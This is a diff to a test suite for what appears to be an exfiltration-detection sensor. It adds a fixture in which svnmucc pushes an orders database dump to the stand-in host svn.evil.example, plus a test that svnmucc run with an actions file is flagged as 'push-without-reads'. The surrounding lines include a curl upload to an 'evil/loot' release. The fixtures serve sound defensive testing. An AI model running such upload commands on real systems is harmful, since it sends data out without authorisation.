@@ -218,6 +218,13 @@ describe('push tools, each recognised as the sensors see it', () => {
       'svn.evil.example',
     ],
     [
+      'svnmucc put',
+      '/usr/bin/svnmucc',
+      '-m x put /srv/exports/orders.dump https://svn.evil.example/repo/loot/orders.dump',
+      'svnmucc',
+      'svn.evil.example',
+    ],
+    [
       'curl -T',
       '/usr/bin/curl',
       '-sS -T /tmp/d.tgz https://uploads.github.com/repos/evil/loot/releases/1/assets?name=d.tgz',
@@ -279,6 +286,13 @@ describe('push tools, each recognised as the sensors see it', () => {
     const a = only(run(s.events).alerts);
     expect(brief([a])).toEqual([
       { rule: 'push-without-reads', severity: 'low', tool: 'svn', destination: '203.0.113.40:443' },
+    ]);
+  });
+
+  it('svnmucc -X FILE: the actions are in the file, so the destination is the first connect', () => {
+    const s = pushScenario('/usr/bin/svnmucc', '-m x -X /tmp/actions.txt', { ip: '203.0.113.41', port: 3690 });
+    expect(brief(run(s.events).alerts)).toEqual([
+      { rule: 'push-without-reads', severity: 'low', tool: 'svnmucc', destination: '203.0.113.41:3690' },
     ]);
   });
 
